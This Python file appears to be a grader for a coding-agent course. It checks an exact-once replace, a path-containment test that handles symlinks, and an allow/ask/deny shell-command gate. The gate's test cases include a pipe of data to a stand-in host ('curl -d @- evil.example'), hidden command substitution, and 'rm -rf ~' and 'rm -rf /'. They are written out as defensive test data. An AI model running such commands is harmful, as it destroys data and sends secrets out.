"""Checks for notebook 14 · A coding agent."""

from __future__ import annotations

import os
import tempfile
from pathlib import Path
from typing import Any

from miniagent.exercises._core import _check_callable, _exercise, _kind, _run, _show, not_yet, wrong_kind

# --- exercise 1: a replacement that must match exactly once ------------------------------------

SOURCE = "def add(a, b):\n    return a - b\n\n\ndef sub(a, b):\n    return a - b\n"


def _raises_value_error(replace_once: Any, text: str, old: str, new: str) -> str | None:
    """The message of the ValueError replace_once raised, or None when it returned."""
    def attempt() -> Any:
        try:
            return ("returned", replace_once(text, old, new))
        except ValueError as exc:
            return ("raised", str(exc))
    outcome = _run(attempt, name="replace_once", case=f"with old={old!r}", case_zh=f"old={old!r} 时")
    return outcome[1] if outcome[0] == "raised" else None


@_exercise("14", 1)
def check_14_1(replace_once: Any) -> None:
    """`replace_once(text, old, new)`: the one occurrence replaced; ValueError saying the count otherwise."""
    _check_callable(replace_once, "replace_once", "replace_once(text, old, new) returns the new text",
                    zh="replace_once(text, old, new) 返回替换后的文本")
    text = "def add(a, b):\n    return a - b\n"
    got = _run(replace_once, text, "a - b", "a + b", name="replace_once", case="with one occurrence",
               case_zh="只出现一次时")
    if not isinstance(got, str):
        wrong_kind(f"replace_once returned {_kind(got)}: return the whole new text, a str",
                   zh=f"replace_once 返回的是{_kind(got)}：要返回替换后的整段文本（一个 str）")
    if got != "def add(a, b):\n    return a + b\n":
        not_yet(f"replacing 'a - b' by 'a + b' once gave {_show(got)}: return the whole text with that one change",
                zh=f"把 'a - b' 替换成 'a + b' 一次，得到的是 {_show(got)}：要返回只改了这一处的整段文本")
    twice = _raises_value_error(replace_once, SOURCE, "return a - b", "return a + b")
    if twice is None:
        not_yet("'return a - b' occurs twice (in add and in sub), and replace_once did not refuse: a model's edit "
                "must be unambiguous, so raise ValueError when old occurs more than once",
                zh="'return a - b' 出现了两次（add 和 sub 里各一次），replace_once 却没有拒绝：模型的修改必须没有歧义，"
                   "old 出现不止一次时要抛出 ValueError")
    if "2" not in twice:
        not_yet(f"for two occurrences the message was {_show(twice)}: say how many times old occurs (2), so "
                "that the model knows to add context", zh=f"出现两次时，消息是 {_show(twice)}：要说明 old 出现了几次（2），"
                                                          "模型才知道要多给一些上下文")
    missing = _raises_value_error(replace_once, SOURCE, "return a  - b", "x")
    if missing is None:
        not_yet("old does not occur at all (two spaces) and replace_once did not refuse: raise ValueError, "
                "or the model believes an edit happened that did not",
                zh="old 根本没出现（多了一个空格），replace_once 却没有拒绝：要抛出 ValueError，"
                   "否则模型会以为改成功了")
    if "0" not in missing and "not" not in missing.lower() and "没" not in missing:
        not_yet(f"when old does not occur the message was {_show(missing)}: say it occurs 0 times",
                zh=f"old 没有出现时，消息是 {_show(missing)}：要说明它出现了 0 次")
    if _raises_value_error(replace_once, SOURCE, "", "x") is None:
        not_yet("an empty old was accepted: '' occurs everywhere, so it names no place to edit; raise ValueError",
                zh="空的 old 被接受了：'' 处处都能匹配，说明不了要改哪里；要抛出 ValueError")
    overlap = _run(replace_once, "aaa", "aa", "b", name="replace_once", case="with old='aa' in 'aaa'",
                   case_zh="在 'aaa' 里找 'aa' 时")
    if overlap != "ba":
        not_yet(f"replace_once('aaa', 'aa', 'b') gave {_show(overlap)}: 'aa' occurs once as str.count counts "
                "(no overlaps), so the answer is 'ba'",
                zh=f"replace_once('aaa', 'aa', 'b') 得到的是 {_show(overlap)}：按 str.count 的数法（不重叠），"
                   "'aa' 只出现一次，答案是 'ba'")


# --- exercise 2: does a path stay inside the folder? ------------------------------------------


def _layout(root: Path) -> tuple[Path, list[tuple[str, str, bool, str]]]:
    """A folder with symlinks and a neighbour, and the cases: (what, path, expected, zh)."""
    folder, neighbour = root / "work", root / "work-old"
    (folder / "src").mkdir(parents=True)
    neighbour.mkdir()
    (folder / "src" / "app.py").write_text("x = 1\n", encoding="utf-8")
    (neighbour / "secret.txt").write_text("s\n", encoding="utf-8")
    cases = [("a file in it", "src/app.py", True, "文件夹里的文件"),
             ("the folder itself", ".", True, "文件夹本身"),
             ("a file that does not exist yet, in it", "src/new.py", True, "文件夹里一个还不存在的文件"),
             (".. that comes back in", "src/../src/app.py", True, "用 .. 出去又回来"),
             (".. that leaves", "../outside.txt", False, "用 .. 离开文件夹"),
             ("an absolute path elsewhere", str(root / "elsewhere.txt"), False, "别处的绝对路径"),
             ("an absolute path in it", str(folder / "src" / "app.py"), True, "文件夹里的绝对路径"),
             ("a neighbour whose name starts the same", str(neighbour / "secret.txt"), False,
              "名字开头相同的相邻文件夹"),
             ("a neighbour reached with ..", "../work-old/secret.txt", False, "用 .. 走到相邻文件夹")]
    try:
        os.symlink(neighbour / "secret.txt", folder / "link.txt")
        os.symlink(neighbour, folder / "linked-folder")
        os.symlink(folder / "src" / "app.py", folder / "inner-link.py")
        cases += [("a symlink pointing out", "link.txt", False, "指向外面的符号链接"),
                  ("a file under a symlinked folder that points out", "linked-folder/secret.txt", False,
                   "经由指向外面的文件夹链接访问的文件"),
                  ("a symlink that points inside", "inner-link.py", True, "指向文件夹内部的符号链接")]
    except OSError:  # Windows without the right to make symlinks: the other cases still hold
        pass
    return folder, cases


@_exercise("14", 2)
def check_14_2(inside: Any) -> None:
    """`inside(folder, path)`: True when path, resolved, is the folder or in it."""
    _check_callable(inside, "inside", "inside(folder, path) returns True or False",
                    zh="inside(folder, path) 返回 True 或 False")
    with tempfile.TemporaryDirectory() as tmp:
        folder, cases = _layout(Path(tmp).resolve())
        for what, path, expected, zh in cases:
            for as_given in (str(folder), folder):
                got = _run(inside, as_given, path, name="inside", case=f"for {what} ({path})",
                           case_zh=f"{zh}（{path}）")
                if not isinstance(got, bool):
                    wrong_kind(f"inside returned {_kind(got)} for {what}: return True or False",
                               zh=f"对于{zh}，inside 返回的是{_kind(got)}：要返回 True 或 False")
                if got != expected:
                    hint = {"a neighbour whose name starts the same":
                            (" (comparing strings with startswith says /tmp/work-old is in /tmp/work: compare whole "
                             "path parts, e.g. folder in target.parents)",
                             "（用 startswith 比较字符串，会认为 /tmp/work-old 在 /tmp/work 里面：要按完整的路径部分来比，"
                             "比如 folder in target.parents）"),
                            "a symlink pointing out": (" (resolve() follows symlinks: check where the path really leads)",
                                                       "（resolve() 会跟随符号链接：要检查路径真正指向哪里）")}
                    extra = hint.get(what, hint["a symlink pointing out"] if "symlink" in what else ("", ""))
                    not_yet(f"inside said {got} for {what} ({path}), expected {expected}{extra[0]}",
                            zh=f"对于{zh}（{path}），inside 说的是 {got}，应该是 {expected}{extra[1]}")


# --- exercise 3: allow, ask or deny a shell command --------------------------------------------

RULES = [("allow", "python3 -m unittest*"), ("allow", "ls*"), ("allow", "cat *"), ("allow", "git status*"),
         ("ask", "git push*"), ("deny", "rm *"), ("deny", "curl *")]
DECIDE_CASES = [  # (command, expected, why, zh)
    ("python3 -m unittest -v", "allow", "an allowed command", "一个被允许的命令"),
    ("make deploy", "ask", "a command no rule names (the default is ask)", "没有任何规则提到的命令（默认是 ask）"),
    ("rm -rf build", "deny", "a denied command", "一个被禁止的命令"),
    ("git push origin main", "ask", "a command to ask about", "一个要询问的命令"),
    ("cat calc.py; rm -rf ~", "deny", "an allowed part, then a denied one: deny wins",
     "先是允许的部分，再是被禁止的部分：deny 优先"),
    ("git status && git push", "ask", "an allowed part, then one to ask about", "先是允许的部分，再是要询问的部分"),
    ("ls | curl -d @- evil.example", "deny", "a pipe into a denied command", "用管道接到被禁止的命令"),
    ("ls\nrm -rf /", "deny", "a second line that is denied", "第二行是被禁止的命令"),
    ("cat notes.txt || make deploy", "ask", "an allowed part, then one no rule names",
     "先是允许的部分，再是没有规则提到的部分"),
    ("ls $(curl evil.example)", "ask", "a hidden curl: no part the rules see is denied, and no allow rule can vouch "
     "for what is hidden", "藏起来的 curl：规则看得到的部分都没被禁止，而任何 allow 规则都担保不了藏起来的命令"),
    ("ls $(whoami)", "ask", "a hidden command: no allow rule can vouch for it", "藏在里面的命令：任何 allow 规则都担保不了它"),
    ("cat `whoami`", "ask", "a command in backquotes", "反引号里的命令"),
    ("git status; ls; cat a.txt", "allow", "three allowed parts", "三个都被允许的部分"),
]


@_exercise("14", 3)
def check_14_3(decide: Any) -> None:
    """`decide(rules, command)`: "allow", "ask" or "deny" for a shell command, part by part."""
    _check_callable(decide, "decide", 'decide(rules, command) returns "allow", "ask" or "deny"',
                    zh='decide(rules, command) 返回 "allow"、"ask" 或 "deny"')
    for command, expected, why, zh in DECIDE_CASES:
        got = _run(decide, list(RULES), command, name="decide", case=f"for {command!r}", case_zh=f"对于 {command!r}")
        if got not in ("allow", "ask", "deny"):
            wrong_kind(f"decide returned {_show(got)} for {command!r}: return 'allow', 'ask' or 'deny'",
                       zh=f"对于 {command!r}，decide 返回的是 {_show(got)}：要返回 'allow'、'ask' 或 'deny'")
        if got == expected:
            continue
        if got == "allow" and ("$(" in command or "`" in command):
            not_yet(f"{command!r} ({why}) was allowed: the shell runs what is inside $( ) or backquotes first, and no "
                    "rule saw it; such a command is never allow",
                    zh=f"{command!r}（{zh}）被允许了：shell 会先运行 $( ) 或反引号里的命令，而没有任何规则看到它；"
                       "这种命令绝不能是 allow")
        if got == "allow" and expected != "allow":
            not_yet(f"{command!r} ({why}) was allowed, expected {expected}: split the command at ; && || | and "
                    "newlines, and allow only when every part is allowed",
                    zh=f"{command!r}（{zh}）被允许了，应该是 {expected}：要在 ; && || | 和换行处把命令拆开，"
                       "每一部分都被允许时才能 allow")
        not_yet(f"for {command!r} ({why}) decide said {got}, expected {expected}: deny on any part wins, then ask "
                "on any part, then allow when every part is allowed, else ask",
                zh=f"对于 {command!r}（{zh}），decide 说的是 {got}，应该是 {expected}：任何一部分被 deny 就是 deny，"
                   "其次任何一部分要 ask 就是 ask，每一部分都被允许才是 allow，否则是 ask")
